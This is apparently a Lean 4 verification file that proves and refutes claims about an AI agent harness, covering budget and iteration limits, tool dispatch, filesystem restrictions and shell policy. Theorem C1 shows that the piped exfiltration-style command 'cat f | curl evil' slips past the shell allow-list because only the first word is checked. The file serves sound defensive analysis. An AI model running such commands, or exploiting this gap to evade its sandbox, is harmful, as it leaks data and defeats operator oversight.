      exact (show ¬(("completed" : String) = "budget_exceeded") by decide)

/-- When `budgetHit` rejects a nonzero budget, spend is still below
it. -/
theorem budgetHit_false_lt (N : Int) (hN : N ≠ 0) (tot : Nat)
    (h : budgetHit (some N) tot = false) : (tot : Int) < N := by
  simp only [budgetHit, if_neg hN, decide_eq_false_iff_not, not_le] at h
  exact h

/-- Below-budget spend at call `calls` and over-budget spend by call `j`
force `calls < j`. -/
theorem calls_lt_of_budget (llm : Nat → LlmResult) (N : Int) (j calls : Nat)
    (hS : N ≤ (usageS llm j : Int))
    (hlt : ((inSum llm calls + outSum llm calls : Nat) : Int) < N) :
    calls < j := by
  rcases Nat.lt_or_ge calls j with h | h
  · exact h
  · exfalso
    have hmono := usageS_mono llm h
    have h1 : (usageS llm calls : Int) < N := by simpa [usageS] using hlt
    have h2 : (usageS llm j : Int) ≤ usageS llm calls := by exact_mod_cast hmono
    omega

/-- Once cumulative reported usage reaches a nonzero budget by call `j`,
no run of the loop attempts more than `j` model calls. -/
theorem loopFrom_calls_le (llm : Nat → LlmResult) (kf : Nat → Bool) (N : Int)
    (hN : N ≠ 0) (j : Nat) (hS : N ≤ (usageS llm j : Int)) :
    ∀ fuel calls, calls ≤ j →
      (loopFrom llm kf (some N) fuel calls (inSum llm calls)
        (outSum llm calls)).model_calls ≤ j := by
  intro fuel
  induction fuel with
  | zero => intro calls hc; exact hc
  | succ n ih =>
    intro calls hc
    cases h1 : kf calls with
    | true => rw [loopFrom_succ_kill h1]; exact hc
    | false =>
    cases h2 : budgetHit (some N) (inSum llm calls + outSum llm calls) with
    | true => rw [loopFrom_succ_budget h1 h2]; exact hc
    | false =>
    have hcj : calls < j :=
      calls_lt_of_budget llm N j calls hS (budgetHit_false_lt N hN _ h2)
    cases he : llm calls with
    | exc e => rw [loopFrom_succ_exc h1 h2 he]; exact hcj
    | ok t =>
    have hin : inSum llm calls + turnIn (.ok t) = inSum llm (calls + 1) := by
      simp [inSum, he]
    have hout : outSum llm calls + turnOut (.ok t) = outSum llm (calls + 1) := by
      simp [outSum, he]
    cases h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") with
    | true => rw [loopFrom_succ_stop h1 h2 he h3]; exact hcj
    | false =>
    cases h4 : (t.finish_reason == "tool_calls" || t.tool_calls) with
    | true =>
      rw [loopFrom_succ_tool h1 h2 he h3 h4, hin, hout]
      exact ih (calls + 1) hcj
    | false =>
    by_cases h5 : t.content.getD "" = ""
    · rw [loopFrom_succ_empty h1 h2 he h3 h4 h5]; exact hcj
    · rw [loopFrom_succ_content h1 h2 he h3 h4 h5]; exact hcj

/-- With tool-call turns, an unset kill flag and enough fuel, the run that
crosses a nonzero budget ends in the budget branch. -/
theorem loopFrom_budget_exit (llm : Nat → LlmResult) (kf : Nat → Bool)
    (N : Int) (hN : N ≠ 0) (j : Nat) (hS : N ≤ (usageS llm j : Int))
    (ht : ∀ i, i < j → turnIsTool (llm i) = true)
    (hk : ∀ i, i ≤ j → kf i = false) :
    ∀ fuel calls, calls ≤ j → j < calls + fuel →
      (loopFrom llm kf (some N) fuel calls (inSum llm calls)
        (outSum llm calls)).status = "budget_exceeded" := by
  intro fuel
  induction fuel with
  | zero => intro calls hc hf; omega
  | succ n ih =>
    intro calls hc hf
    cases h2 : budgetHit (some N) (inSum llm calls + outSum llm calls) with
    | true => rw [loopFrom_succ_budget (hk calls hc) h2]
    | false =>
    have hcj : calls < j :=
      calls_lt_of_budget llm N j calls hS (budgetHit_false_lt N hN _ h2)
    have htool := ht calls hcj
    cases he : llm calls with
    | exc e => rw [he] at htool; simp [turnIsTool] at htool
    | ok t =>
      rw [he] at htool
      simp only [turnIsTool, isToolTurn, Bool.and_eq_true, Bool.not_eq_true'] at htool
      obtain ⟨h3, h4⟩ := htool
      have hin : inSum llm calls + turnIn (.ok t) = inSum llm (calls + 1) := by
        simp [inSum, he]
      have hout : outSum llm calls + turnOut (.ok t) = outSum llm (calls + 1) := by
        simp [outSum, he]
      rw [loopFrom_succ_tool (hk calls hc) h2 he h3 h4, hin, hout]
      exact ih (calls + 1) hcj (by omega)

/-- With tool-call turns and no other exit firing, the loop runs its fuel
to exhaustion and ends in the iteration-ceiling branch. -/
theorem loopFrom_ceiling (llm : Nat → LlmResult) (kf : Nat → Bool)
    (mb : Option Int) :
    ∀ fuel calls,
      (∀ i, calls ≤ i → i < calls + fuel →
        turnIsTool (llm i) = true ∧ kf i = false ∧
        budgetHit mb (usageS llm i) = false) →
      loopFrom llm kf mb fuel calls (inSum llm calls) (outSum llm calls) =
        ⟨"failed", "Iteration limit reached (" ++ toString MAX_ITERATIONS ++ ")",
          inSum llm (calls + fuel), outSum llm (calls + fuel), calls + fuel,
          true⟩ := by
  intro fuel
  induction fuel with
  | zero => intro calls _; rfl
  | succ n ih =>
    intro calls h
    obtain ⟨htool, hkill, hbud⟩ := h calls (Nat.le_refl _) (by omega)
    have hbud2 : budgetHit mb (inSum llm calls + outSum llm calls) = false := by
      simpa [usageS] using hbud
    cases he : llm calls with
    | exc e => rw [he] at htool; simp [turnIsTool] at htool
    | ok t =>
      rw [he] at htool
      simp only [turnIsTool, isToolTurn, Bool.and_eq_true, Bool.not_eq_true'] at htool
      obtain ⟨h3, h4⟩ := htool
      have hin : inSum llm calls + turnIn (.ok t) = inSum llm (calls + 1) := by
        simp [inSum, he]
      have hout : outSum llm calls + turnOut (.ok t) = outSum llm (calls + 1) := by
        simp [outSum, he]
      rw [loopFrom_succ_tool hkill hbud2 he h3 h4, hin, hout]
      have harr : calls + (n + 1) = (calls + 1) + n := by omega
      rw [harr]
      exact ih (calls + 1) (fun i hi1 hi2 => h i (by omega) (by omega))

/-- C2 (amended): with a configured positive budget `N`, if cumulative
reported usage over the first `j` calls reaches or exceeds `N`, the loop
attempts at most `j` model calls; and when the run has not already
terminated otherwise (the turns up to `j` request tool calls, the kill
flag stays unset and the iteration ceiling is not yet reached), it
returns `budget_exceeded` after persisting a suspension checkpoint.  The
unconditional "returns budget_exceeded" of the original claim fails when
the over-budget turn is itself a final answer (see the counterexample). -/
theorem c2_budget_stops_loop (llm : Nat → LlmResult) (kf : Nat → Bool)
    (N : Int) (j : Nat) (hN : 0 < N) (hS : N ≤ (usageS llm j : Int)) :
    (agentic_loop llm kf (.num N)).model_calls ≤ j ∧
    ((∀ i, i < j → turnIsTool (llm i) = true) →
     (∀ i, i ≤ j → kf i = false) →
     j < MAX_ITERATIONS →
     (agentic_loop llm kf (.num N)).status = "budget_exceeded" ∧
     (agentic_loop llm kf (.num N)).checkpoint_saved = true) := by
  have hN0 : N ≠ 0 := by omega
  constructor
  · have h := loopFrom_calls_le llm kf N hN0 j hS MAX_ITERATIONS 0 (Nat.zero_le j)
    simpa [agentic_loop, parseMaxTokens, inSum, outSum] using h
  · intro ht hk hj
    have hst := loopFrom_budget_exit llm kf N hN0 j hS ht hk MAX_ITERATIONS 0
      (Nat.zero_le j) (by omega)
    have hst2 : (agentic_loop llm kf (.num N)).status = "budget_exceeded" := by
      simpa [agentic_loop, parseMaxTokens, inSum, outSum] using hst
    exact ⟨hst2, loopFrom_budget_ckpt llm kf (parseMaxTokens (.num N))
      MAX_ITERATIONS 0 0 0 hst2⟩

/-- Witness for C2 (amended): three-token tool turns against a budget of
5 stop after two calls with `budget_exceeded`. -/
theorem c2_budget_stops_loop_witness :
    (agentic_loop llmToolThree noKill (.num 5)).status = "budget_exceeded" ∧
    (agentic_loop llmToolThree noKill (.num 5)).model_calls ≤ 2 := by
  have h := c2_budget_stops_loop llmToolThree noKill 5 2 (by decide) (by decide)
  exact ⟨(h.2 (fun i _ => rfl) (fun i _ => rfl) (by decide)).1, h.1⟩

/-- C2 counterexample: a single `stop` turn that reports 10 tokens against
a budget of 1 crosses the budget, yet the loop returns `completed` with no
checkpoint written — refuting the unconditional "persists a
suspension checkpoint and returns status budget_exceeded" once usage
reaches the budget. -/
theorem c2_over_budget_but_completed :
    (1 : Int) ≤ (usageS llmStopOver 1 : Int) ∧
    (agentic_loop llmStopOver noKill (.num 1)).status = "completed" ∧
    (agentic_loop llmStopOver noKill (.num 1)).checkpoint_saved = false := by
  refine ⟨by decide, by decide, by decide⟩

/-- C3: when every model turn up to the ceiling requests tool calls and
neither the kill flag nor the budget check fires, the loop terminates
`failed` exactly at `MAX_ITERATIONS` model calls — a constant independent
of the (arbitrary, quantified) budget — after writing a suspension
checkpoint. -/
theorem c3_iteration_ceiling (llm : Nat → LlmResult) (kf : Nat → Bool)
    (b : BudgetField)
    (ht : ∀ i, i < MAX_ITERATIONS → turnIsTool (llm i) = true)
    (hk : ∀ i, i < MAX_ITERATIONS → kf i = false)
    (hb : ∀ i, i < MAX_ITERATIONS →
      budgetHit (parseMaxTokens b) (usageS llm i) = false) :
    (agentic_loop llm kf b).status = "failed" ∧
    (agentic_loop llm kf b).model_calls = MAX_ITERATIONS ∧
    (agentic_loop llm kf b).checkpoint_saved = true ∧
    (agentic_loop llm kf b).output =
      "Iteration limit reached (" ++ toString MAX_ITERATIONS ++ ")" := by
  have h := loopFrom_ceiling llm kf (parseMaxTokens b) MAX_ITERATIONS 0
    (fun i h1 h2 => ⟨ht i (by omega), hk i (by omega), hb i (by omega)⟩)
  have h2 : agentic_loop llm kf b =
      ⟨"failed", "Iteration limit reached (" ++ toString MAX_ITERATIONS ++ ")",
        inSum llm MAX_ITERATIONS, outSum llm MAX_ITERATIONS, MAX_ITERATIONS,
        true⟩ := by
    rw [show inSum llm 0 = 0 from rfl, show outSum llm 0 = 0 from rfl,
      Nat.zero_add] at h
    exact h
  rw [h2]
  exact ⟨rfl, rfl, rfl, rfl⟩

/-- Witness for C3: constant tool-call turns, no budget. -/
theorem c3_iteration_ceiling_witness :
    (agentic_loop llmToolThree noKill .absent).status = "failed" ∧
    (agentic_loop llmToolThree noKill .absent).model_calls = MAX_ITERATIONS :=
  have h := c3_iteration_ceiling llmToolThree noKill .absent
    (fun _ _ => rfl) (fun _ _ => rfl) (fun _ _ => rfl)
  ⟨h.1, h.2.1⟩

/-- C10: with `maxTokens` absent, zero, or a non-numeric string, the
parsed budget is falsy and the budget branch is unreachable: the loop
never returns `budget_exceeded`, whatever the model reports. -/
theorem c10_falsy_budget_disables_check (llm : Nat → LlmResult)
    (kf : Nat → Bool) (b : BudgetField)
    (hb : b = .absent ∨ b = .num 0 ∨ ∃ s, b = .str s ∧ pyIntParse s = none) :
    (agentic_loop llm kf b).status ≠ "budget_exceeded" := by
  have hmb : ∀ tot, budgetHit (parseMaxTokens b) tot = false := by
    rcases hb with h | h | ⟨s, hs, hp⟩
    · subst h; intro tot; rfl
    · subst h; intro tot; rfl
    · subst hs; intro tot; simp [parseMaxTokens, hp, budgetHit]
  exact loopFrom_no_budget llm kf (parseMaxTokens b) hmb MAX_ITERATIONS 0 0 0

/-- Witness for C10 with the non-numeric budget string `"abc"` and a
model that would blow any real budget. -/
theorem c10_falsy_budget_disables_check_witness :
    (agentic_loop llmStopOver noKill (.str "abc")).status ≠ "budget_exceeded" :=
  c10_falsy_budget_disables_check llmStopOver noKill (.str "abc")
    (Or.inr (Or.inr ⟨"abc", rfl, rfl⟩))

/-! ### Reincarnation context builder (C6) -/

/-- String concatenation concatenates the underlying character lists. -/
theorem append_data (a b : String) : (a ++ b).data = a.data ++ b.data := by
  cases a; cases b; rfl

/-- An infix of `y` is an infix of `x ++ y`. -/
theorem infix_append_left {α : Type} (x : List α) {l y : List α}
    (h : l <:+: y) : l <:+: x ++ y := by
  obtain ⟨u, v, huv⟩ := h
  exact ⟨x ++ u, v, by rw [← huv]; simp [List.append_assoc]⟩

/-- Every member of the parts list is an infix of the joined resume
text. -/
theorem mem_pyJoin_infix (sep : String) :
    ∀ (l : List String) (s : String), s ∈ l →
      s.data <:+: (pyJoin sep l).data := by
  intro l
  induction l with
  | nil => intro s h; cases h
  | cons a rest ih =>
    intro s h
    cases rest with
    | nil =>
      rcases List.mem_singleton.mp h with rfl
      exact List.infix_rfl
    | cons b rest2 =>
      rcases List.mem_cons.mp h with rfl | h2
      · exact ⟨[], (sep ++ pyJoin sep (b :: rest2)).data, by
          simp [pyJoin, append_data, List.append_assoc]⟩
      · have h3 := ih s h2
        have h4 : (pyJoin sep (a :: b :: rest2)).data =
            (a ++ sep).data ++ (pyJoin sep (b :: rest2)).data := by
          simp [pyJoin, append_data, List.append_assoc]
        rw [h4]
        exact infix_append_left _ h3

/-- The part for a new child result is in the parts list. -/
theorem newChildPart_mem (cp : CheckpointD) (rs : List (String × ChildRes))
    (p : String × ChildRes) (hp : p ∈ rs) :
    newChildPart p ∈ resumeParts cp rs := by
  have hne : rs.isEmpty = false := by
    cases rs with
    | nil => cases hp
    | cons x xs => rfl
  simp only [resumeParts, hne, Bool.false_eq_true, if_false]
  exact List.mem_append_left _ (List.mem_append_left _ (List.mem_append_right _
    (List.mem_cons_of_mem _ (List.mem_map_of_mem _ hp))))

/-- The part for a previously-completed child is in the parts list. -/
theorem completedPart_mem (cp : CheckpointD) (rs : List (String × ChildRes))
    (c : ChildD) (hc : c ∈ cp.completedChildren) :
    completedPart c ∈ resumeParts cp rs := by
  have hne : cp.completedChildren.isEmpty = false := by
    cases h : cp.completedChildren with
    | nil => rw [h] at hc; cases hc
    | cons x xs => rfl
  simp only [resumeParts, hne, Bool.false_eq_true, if_false]
  exact List.mem_append_left _ (List.mem_append_right _
    (List.mem_cons_of_mem _ (List.mem_map_of_mem _ hc)))

/-- C6 (amended): the resume text mentions every newly arrived child
result and every previously-completed checkpoint child; a child appearing
in both lists gets both its new-result part and its completed part — one
mention per section, hence two mentions, with no deduplication between the
two lists (the original wording "appears only once" fails, see the
counterexample). -/
theorem c6_resume_mentions_children (cp : CheckpointD)
    (rs : List (String × ChildRes)) :
    (∀ p ∈ rs, newChildPart p ∈ resumeParts cp rs ∧
      p.1.data <:+: (build_resume_context cp rs).data) ∧
    (∀ c ∈ cp.completedChildren, completedPart c ∈ resumeParts cp rs ∧
      (c.name.getD "unknown").data <:+: (build_resume_context cp rs).data) := by
  constructor
  · intro p hp
    have h1 := newChildPart_mem cp rs p hp
    have h2 : (newChildPart p).data <:+: (build_resume_context cp rs).data :=
      mem_pyJoin_infix "\n" _ _ h1
    have h3 : p.1.data <:+: (newChildPart p).data := by
      refine ⟨"\n### ".data,
        (" (" ++ p.2.status.getD "unknown" ++ ")\n" ++
          p.2.summary.getD (p.2.output.getD "No output")).data, ?_⟩
      simp [newChildPart, append_data, List.append_assoc]
    exact ⟨h1, h3.trans h2⟩
  · intro c hc
    have h1 := completedPart_mem cp rs c hc
    have h2 : (completedPart c).data <:+: (build_resume_context cp rs).data :=
      mem_pyJoin_infix "\n" _ _ h1
    have h3 : (c.name.getD "unknown").data <:+: (completedPart c).data := by
      refine ⟨"- ".data, (": " ++ c.status.getD "unknown").data, ?_⟩
      simp [completedPart, append_data, List.append_assoc]
    exact ⟨h1, h3.trans h2⟩

/-- Witness for C6 (amended): the checkpoint child and the inbox child of
the concrete both-lists instance each contribute their part. -/
theorem c6_resume_mentions_children_witness :
    newChildPart zzNew ∈ resumeParts cpBoth rsBoth ∧
    completedPart zzDone ∈ resumeParts cpBoth rsBoth :=
  ⟨((c6_resume_mentions_children cpBoth rsBoth).1 _
      (List.mem_cons_self _ _)).1,
   ((c6_resume_mentions_children cpBoth rsBoth).2 _
      (List.mem_cons_self _ _)).1⟩

set_option maxRecDepth 4000 in
/-- C6 counterexample: a child named `zzchild` that is both in the
completed list of the checkpoint and in the new inbox results is mentioned
twice in the resume text (once per section), refuting "appears only
once". -/
theorem c6_child_in_both_mentioned_twice :
    countOccur "zzchild" (build_resume_context cpBoth rsBoth) = 2 := by decide

/-! ### Tool dispatcher outcome shape (C7) -/

/-- Lookup hits a matching head key. -/
theorem dictGet_cons_eq (k : String) (v : Json) (rest : Dict) :
    dictGet ((k, v) :: rest) k = some v := by
  show (if k = k then some v else dictGet rest k) = some v
  rw [if_pos rfl]

/-- Lookup skips a non-matching head key. -/
theorem dictGet_cons_ne (k k2 : String) (v : Json) (rest : Dict)
    (h : k ≠ k2) : dictGet ((k, v) :: rest) k2 = dictGet rest k2 := by
  show (if k = k2 then some v else dictGet rest k2) = dictGet rest k2
  rw [if_neg h]

/-- Any dict starting with a true success flag is structured. -/
theorem goodOutcome_true (rest : Dict) :
    goodOutcome (("success", Json.bool true) :: rest) := by
  refine ⟨⟨true, dictGet_cons_eq _ _ _⟩, fun hfalse => ?_⟩
  rw [dictGet_cons_eq] at hfalse
  simp at hfalse

/-- Any dict starting with a false success flag and an error string is
structured. -/
theorem goodOutcome_false_err (e : String) (rest : Dict) :
    goodOutcome (("success", Json.bool false) ::
      ("error", Json.str e) :: rest) := by
  refine ⟨⟨false, dictGet_cons_eq _ _ _⟩, fun _ => Or.inl ⟨e, ?_⟩⟩
  rw [dictGet_cons_ne _ _ _ _ (by decide), dictGet_cons_eq]

/-- The structured-failure dict is structured. -/
theorem goodOutcome_failD (e : String) : goodOutcome (failD e) :=
  goodOutcome_false_err e []

/-- A shell outcome carrying an exit code is structured whatever the
success flag. -/
theorem goodOutcome_exit (b : Bool) (v : Json) (rest : Dict) :
    goodOutcome (("success", Json.bool b) :: ("exit_code", v) :: rest) := by
  refine ⟨⟨b, dictGet_cons_eq _ _ _⟩, fun _ => Or.inr ⟨v, ?_⟩⟩
  rw [dictGet_cons_ne _ _ _ _ (by decide), dictGet_cons_eq]

/-- Handler `_exec_spawn_task` only returns structured dicts. -/
theorem exec_spawn_task_good (w : World) (args : Dict) (pn : String) :
    goodOutcomeE (exec_spawn_task w args pn).1 := by
  simp only [exec_spawn_task]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_check_status` only returns structured dicts. -/
theorem exec_check_status_good (w : World) (args : Dict) :
    goodOutcomeE (exec_check_status w args).1 := by
  simp only [exec_check_status]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_get_result` only returns structured dicts. -/
theorem exec_get_result_good (w : World) (args : Dict) :
    goodOutcomeE (exec_get_result w args).1 := by
  simp only [exec_get_result]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_cancel_task` only returns structured dicts. -/
theorem exec_cancel_task_good (w : World) (args : Dict) :
    goodOutcomeE (exec_cancel_task w args).1 := by
  simp only [exec_cancel_task]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_checkpoint_and_wait` only returns structured dicts. -/
theorem exec_checkpoint_and_wait_good (args : Dict) :
    goodOutcomeE (exec_checkpoint_and_wait args).1 :=
  goodOutcome_true _

/-- Handler `_exec_list_roles` only returns structured dicts. -/
theorem exec_list_roles_good (w : World) (args : Dict) :
    goodOutcomeE (exec_list_roles w args).1 := by
  simp only [exec_list_roles]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_describe_role` only returns structured dicts. -/
theorem exec_describe_role_good (w : World) (args : Dict) :
    goodOutcomeE (exec_describe_role w args).1 := by
  simp only [exec_describe_role]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_run_shell` only returns structured dicts: policy rejections and
timeouts carry an error string, completed commands carry their exit
code. -/
theorem exec_run_shell_good (w : World) (args : Dict) :
    goodOutcomeE (exec_run_shell w args).1 := by
  simp only [exec_run_shell]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_read_file` only returns structured dicts. -/
theorem exec_read_file_good (w : World) (args : Dict) :
    goodOutcomeE (exec_read_file w args).1 := by
  simp only [exec_read_file]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Handler `_exec_write_file` only returns structured dicts. -/
theorem exec_write_file_good (w : World) (args : Dict) :
    goodOutcomeE (exec_write_file w args).1 := by
  simp only [exec_write_file]
  repeat' split
  all_goals first
    | trivial
    | exact goodOutcome_failD _
    | exact goodOutcome_false_err _ _
    | exact goodOutcome_exit _ _ _
    | exact goodOutcome_true _

/-- Every dispatch branch only returns structured dicts (or raises into
the boundary). -/
theorem dispatchTool_good (w : World) (name : String) (args : Dict)
    (tn ns : String) : goodOutcomeE (dispatchTool w name args tn ns).1 := by
  unfold dispatchTool
  split
  · exact exec_spawn_task_good w args tn
  · split
    · exact exec_check_status_good w args
    · split
      · exact exec_get_result_good w args
      · split
        · exact exec_cancel_task_good w args
        · split
          · exact exec_checkpoint_and_wait_good args
          · split
            · exact exec_list_roles_good w args
            · split
              · exact exec_describe_role_good w args
              · split
                · exact exec_run_shell_good w args
                · split
                  · exact exec_read_file_good w args
                  · split
                    · exact exec_write_file_good w args
                    · exact goodOutcome_failD _

/-- C7: for every tool name, argument mapping and world, `execute_tool`
returns a structured outcome dict — a boolean success flag plus an error
string or payload — and, being a total function over a boundary that
converts every handler raise (unknown tools, subprocess errors, timeouts)
into the failure dict, never propagates an exception. -/
theorem c7_dispatch_structured (w : World) (name : String) (args : Dict)
    (tn ns : String) : goodOutcome (execute_tool w name args tn ns).1 := by
  have hg := dispatchTool_good w name args tn ns
  unfold execute_tool
  cases hres : dispatchTool w name args tn ns with
  | mk res effs =>
    rw [hres] at hg
    cases res with
    | ok d => exact hg
    | error e => exact goodOutcome_failD e

/-- Witness for C7 at an unknown tool name. -/
theorem c7_dispatch_structured_witness :
    goodOutcome (execute_tool worldSh "no_such_tool" [] "t" "ns").1 :=
  c7_dispatch_structured worldSh "no_such_tool" [] "t" "ns"

/-! ### Filesystem prefix policy (C8) -/

/-- C8: for every path outside the five read prefixes and the three write
prefixes, `read_file` and `write_file` both return the structured failure
dict and record no filesystem effect — the prefix check precedes any
access, including the write path's directory creation. -/
theorem c8_outside_roots_fail_no_mutation (w : World) (args : Dict)
    (p : String) (hp : pyGet args "path" (.str "") = .str p)
    (hr : ∀ q ∈ ALLOWED_READ_PREFIXES, pyStartsWith p q = false)
    (hw : ∀ q ∈ ALLOWED_WRITE_PREFIXES, pyStartsWith p q = false) :
    ((∃ e, (exec_read_file w args).1 = Except.ok (failD e)) ∧
      (exec_read_file w args).2 = []) ∧
    ((∃ e, (exec_write_file w args).1 = Except.ok (failD e)) ∧
      (exec_write_file w args).2 = []) := by
  have hra : ALLOWED_READ_PREFIXES.any (fun q => pyStartsWith p q) = false :=
    List.any_eq_false.mpr (fun q hq => by simp [hr q hq])
  have hwa : ALLOWED_WRITE_PREFIXES.any (fun q => pyStartsWith p q) = false :=
    List.any_eq_false.mpr (fun q hq => by simp [hw q hq])
  constructor
  · simp only [exec_read_file, hp]
    by_cases hp0 : p = ""
    · subst hp0
      exact ⟨⟨_, rfl⟩, rfl⟩
    · have ht : (!truthy (Json.str p)) = false := by simp [truthy, hp0]
      rw [ht]
      simp only [Bool.false_eq_true, if_false, hra, Bool.not_false, if_true]
      exact ⟨⟨_, rfl⟩, trivial⟩
  · simp only [exec_write_file, hp]
    by_cases hp0 : p = ""
    · subst hp0
      exact ⟨⟨_, rfl⟩, rfl⟩
    · have ht : (!truthy (Json.str p)) = false := by simp [truthy, hp0]
      rw [ht]
      simp only [Bool.false_eq_true, if_false, hwa, Bool.not_false, if_true]
      exact ⟨⟨_, rfl⟩, trivial⟩

/-- Witness for C8 at `/etc/passwd`. -/
theorem c8_outside_roots_fail_no_mutation_witness :
    ((∃ e, (exec_read_file worldSh argsEtc).1 = Except.ok (failD e)) ∧
      (exec_read_file worldSh argsEtc).2 = []) ∧
    ((∃ e, (exec_write_file worldSh argsEtc).1 = Except.ok (failD e)) ∧
      (exec_write_file worldSh argsEtc).2 = []) :=
  c8_outside_roots_fail_no_mutation worldSh argsEtc "/etc/passwd" rfl
    (by decide) (by decide)

/-! ### Shell policy on the dispatch path (C1) -/

/-- C1 (code bug): under the allow-list `cat,grep`, the repository function
`_check_shell_command_policy` rejects the piped command
`cat f | curl evil` with an error naming `curl` — exactly what the claim
states — but `_exec_run_shell`, the function the dispatcher actually
calls, never invokes it: its inline check looks only at the first word
`cat` of the whole command, so the dispatch of this command spawns the
shell subprocess and reports success instead of rejecting before any
process starts. -/
theorem c1_run_shell_bypasses_pipe_policy :
    check_shell_command_policy envAllowCatGrep "cat f | curl evil" =
      some "Command \x27curl\x27 is not allowed by policy" ∧
    1 ≤ countOccur "curl" "Command \x27curl\x27 is not allowed by policy" ∧
    execute_tool worldSh "run_shell" argsPipe "t" "ns" =
      ([("success", Json.bool true), ("exit_code", Json.num 0),
        ("stdout", Json.str ""), ("stderr", Json.str "")],
       [Eff.sh "cat f | curl evil"]) :=
  ⟨by decide, by decide, rfl⟩

/-! ### Result/usage records on every exit (C9) -/

/-- A run that survives `mainBody` writes both records. -/
theorem mainTail_writes (w : MainEnv) (task : Dict)
    (h : exceptOk (mainBody w task) = true) :
    (mainTail w task).2 = [RESULT_FILE, USAGE_FILE] := by
  unfold mainTail
  cases hb : mainBody w task with
  | ok u => rfl
  | error e =>
    rw [hb] at h
    exact absurd (show (false : Bool) = true from h) (by decide)

/-- Past the `task_id` expression, both records are written on the `die`
path and on a raise-free run. -/
theorem mainAfterId_writes (w : MainEnv) (task : Dict)
    (h : (!truthy (pyGet task "prompt" (.str "")) ||
      exceptOk (mainBody w task)) = true) :
    (mainAfterId w task).2 = [RESULT_FILE, USAGE_FILE] := by
  unfold mainAfterId
  by_cases hp : (!truthy (pyGet task "prompt" (.str ""))) = true
  · rw [if_pos hp]
  · rw [if_neg hp]
    simp only [Bool.or_eq_true] at h
    rcases h with h | h
    · exact absurd h hp
    · exact mainTail_writes w task h

/-- Unfolding of `mainRun` at a parsed dict task file. -/
theorem mainRun_parsed_obj (w : MainEnv) (task : Dict)
    (hsrc : w.taskSrc = .parsed (.obj task)) :
    mainRun w = (match taskIdExpr task w.envTaskName with
      | .error e => (.raised e, [])
      | .ok _ => mainAfterId w task) := by
  unfold mainRun
  rw [hsrc]

/-- C9 (amended): every controlled exit of `main` — `die` for a missing
task file or an empty prompt, `write_result` plus normal or `waiting`
termination otherwise — writes the result record and the usage record, for
every input whose task file is missing or parses to a dict on which the
startup expressions do not raise: the `task_id` slice, the model-endpoint
access, the auxiliary-service configuration, the checkpoint read, the
capability and tier handling, the resume-context build and the budget
access.  A task file or startup expression that raises exits the process
with no records written (see the counterexample). -/
theorem c9_wellformed_inputs_write_records (w : MainEnv)
    (h : mainInputOk w = true) :
    (mainRun w).2 = [RESULT_FILE, USAGE_FILE] := by
  cases hsrc : w.taskSrc with
  | missing => unfold mainRun; rw [hsrc]
  | unreadable e =>
    unfold mainInputOk at h
    rw [hsrc] at h
    exact absurd (show (false : Bool) = true from h) (by decide)
  | unparseable e =>
    unfold mainInputOk at h
    rw [hsrc] at h
    exact absurd (show (false : Bool) = true from h) (by decide)
  | parsed v =>
    unfold mainInputOk at h
    rw [hsrc] at h
    cases v with
    | obj task =>
      have h' : (exceptOk (taskIdExpr task w.envTaskName) &&
          (!truthy (pyGet task "prompt" (.str "")) ||
            exceptOk (mainBody w task))) = true := h
      simp only [Bool.and_eq_true] at h'
      obtain ⟨hid, hrest⟩ := h'
      rw [mainRun_parsed_obj w task hsrc]
      cases hi : taskIdExpr task w.envTaskName with
      | error e =>
        rw [hi] at hid
        exact absurd (show (false : Bool) = true from hid) (by decide)
      | ok tid => exact mainAfterId_writes w task hrest
    | null => exact absurd (show (false : Bool) = true from h) (by decide)
    | bool b => exact absurd (show (false : Bool) = true from h) (by decide)
    | num n => exact absurd (show (false : Bool) = true from h) (by decide)
    | str s => exact absurd (show (false : Bool) = true from h) (by decide)
    | arr xs => exact absurd (show (false : Bool) = true from h) (by decide)

/-- Witness for C9 (amended) at a missing task file and at a minimal
well-typed descriptor. -/
theorem c9_wellformed_inputs_write_records_witness :
    (mainRun weMissing).2 = [RESULT_FILE, USAGE_FILE] ∧
    (mainRun weTask).2 = [RESULT_FILE, USAGE_FILE] :=
  ⟨c9_wellformed_inputs_write_records weMissing rfl,
   c9_wellformed_inputs_write_records weTask (by decide)⟩

/-- C9 counterexample: a malformed (for instance empty) task file makes
`json.load` raise outside any try block; the process exits with an
uncaught exception and neither the result record nor the usage record is
written — refuting "every process exit writes a result record and a usage
record" for malformed descriptors.  The same controlled-exit guarantee
also fails inside the original claim scope for well-parsed but ill-typed
descriptors, such as a non-iterable `capabilities`, a non-dict `model`, or
a non-dict `budget` field. -/
theorem c9_malformed_task_writes_nothing :
    mainRun weMalformed =
      (.raised "Expecting value: line 1 column 1 (char 0)", []) := rfl

end Hortator
